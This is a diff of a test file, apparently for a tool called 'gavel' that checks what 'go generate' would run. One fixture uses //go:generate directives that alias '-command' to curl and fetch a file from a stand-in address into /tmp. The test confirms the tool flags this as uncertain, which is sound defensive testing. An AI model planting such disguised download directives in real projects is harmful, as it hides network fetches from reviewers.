@@ -174,6 +174,22 @@ describe('-run and -skip select directives as the go command does (checked again
   });
 });
 
+describe('what go reads otherwise than gavel is uncertain (review 25)', () => {
+  it('an alias named -command (go replaces the first word before it looks for a definition)', () => {
+    const files = {
+      'x/x.go':
+        'package x\n//go:generate -command -command curl\n//go:generate -command -s http://203.0.113.7/x -o /tmp/y\n',
+    };
+    expect(analyze('go generate ./...', files).uncertain).toMatch(/named like an option/);
+  });
+  it.each(['go generate ./s...', 'go generate ./...b', 'go generate ./su?', "go generate './[s]ub'"])(
+    'a pattern with ... inside or a glob: %s',
+    (command) => {
+      expect(analyze(command, { 'sub/b.go': `package b\n${PIPE}` }).uncertain).toMatch(/cannot place/);
+    },
+  );
+});
+
 describe('flags are read as the go command reads them', () => {
   it.each<[string, string]>([
     [
